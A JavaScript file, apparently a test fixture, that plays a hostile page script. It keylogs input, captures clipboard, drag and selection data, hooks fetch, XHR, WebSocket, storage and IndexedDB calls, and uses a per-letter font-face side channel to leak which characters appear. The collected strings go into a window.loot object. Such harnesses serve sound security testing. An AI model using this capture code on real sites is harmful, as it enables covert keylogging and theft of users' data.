/**
 * The adversary's first script: runs before anything else of the page, and notes every string that passes a hook of its
 * own in `loot`, by the way it came.
 */
const loot = { events: [], copied: [], network: [], storage: [], performance: [], messages: [] };
window.loot = loot;

/** Every string inside `value`, however deep. */
function strings(value, depth = 4) {
  if (typeof value === 'string') return [value];
  if (value instanceof ArrayBuffer || ArrayBuffer.isView(value)) return [new TextDecoder().decode(value)];
  if (value instanceof URL || value instanceof URLSearchParams) return [String(value)];
  if (value === null || typeof value !== 'object' || depth === 0) return [];
  return Object.values(value).flatMap((part) => strings(part, depth - 1));
}

// Keys, texts, compositions and the clipboard, on window, in the capturing phase, before everyone.
let keys = '';
for (const type of [
  'keydown',
  'keypress',
  'keyup',
  'beforeinput',
  'textInput',
  'input',
  'compositionstart',
  'compositionupdate',
  'compositionend',
]) {
  window.addEventListener(
    type,
    (event) => {
      if (type === 'keydown' && event.key.length === 1) keys += event.key;
      loot.events.push(keys, ...[event.data, event.target?.value].filter((part) => typeof part === 'string'));
    },
    { capture: true },
  );
}
for (const type of ['copy', 'cut', 'paste', 'dragstart', 'drag', 'dragover', 'drop', 'selectionchange', 'select']) {
  (type === 'selectionchange' ? document : window).addEventListener(
    type,
    (event) => {
      if (type === 'dragover' || type === 'drop') event.preventDefault();
      const transfer = event.clipboardData ?? event.dataTransfer;
      loot.copied.push(
        String(getSelection()),
        ...(transfer ? [transfer.getData('text/plain'), transfer.getData('text/html')] : []),
      );
    },
    { capture: true },
  );
}
window.addEventListener('message', ({ data }) => loot.messages.push(...strings(data)), { capture: true });

/** Puts `note` before a function of the page's world. */
function hook(owner, name, into) {
  const before = owner?.[name];
  if (typeof before !== 'function') return;
  owner[name] = function (...given) {
    loot[into].push(...strings(given));
    return new.target ? Reflect.construct(before, given, new.target) : Reflect.apply(before, this, given);
  };
  owner[name].prototype = before.prototype;
}
for (const name of ['fetch', 'WebSocket', 'EventSource', 'Request', 'Worker', 'SharedWorker', 'postMessage'])
  hook(window, name, 'network');
hook(XMLHttpRequest.prototype, 'open', 'network');
hook(XMLHttpRequest.prototype, 'send', 'network');
hook(Navigator.prototype, 'sendBeacon', 'network');
hook(MessagePort.prototype, 'postMessage', 'network');
hook(BroadcastChannel.prototype, 'postMessage', 'network');
hook(Storage.prototype, 'setItem', 'storage');
hook(IDBObjectStore.prototype, 'put', 'storage');
hook(IDBObjectStore.prototype, 'add', 'storage');
hook(Cache.prototype, 'put', 'storage');
hook(Element.prototype, 'attachShadow', 'storage');
for (const name of ['createElement', 'createTextNode', 'write', 'execCommand'])
  hook(Document.prototype, name, 'events');
for (const name of ['encode', 'decode'])
  hook((name === 'encode' ? TextEncoder : TextDecoder).prototype, name, 'network');
new PerformanceObserver((list) => {
  for (const entry of list.getEntries())
    loot.performance.push(decodeURIComponent(entry.name), ...strings(entry.toJSON()));
}).observe({ entryTypes: ['resource', 'navigation', 'mark', 'measure'] });

// Letters leak through fonts: the face of one letter is fetched only when that letter is drawn.
const faces = 'abcdefghijklmnopqrstuvwxyzж'.split('').map((letter) => {
  const code = letter.codePointAt(0).toString(16);
  return `@font-face{font-family:leak;src:url("/font-${code}");unicode-range:U+${code}}`;
});
const rules = `*,*::before,*::after{font-family:leak!important} #list ::part(x){color:red} ::selection{background:url("/selected")}`;
document.head.append(Object.assign(document.createElement('style'), { textContent: faces.join('') + rules }));
